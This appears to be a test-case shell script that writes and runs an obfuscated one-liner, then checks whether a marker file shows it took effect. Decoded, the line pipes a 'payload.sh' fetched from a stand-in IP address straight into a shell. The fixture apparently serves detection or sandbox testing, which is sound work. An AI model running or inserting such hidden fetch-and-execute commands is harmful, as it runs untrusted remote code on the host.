#!/bin/sh
. /opt/case/case.sh

cat >/tmp/o.sh <<'END'
a=$'\143\165\162\154'; b=$'\150\164\164\160\72//203.0.113.10/\160\141\171\154\157\141\144.sh'; c=/bin/bash; ${a} -s "${b}" | ${c%/*}/${c: -2}
END
bash /tmp/o.sh
test -e /tmp/reached
took_place
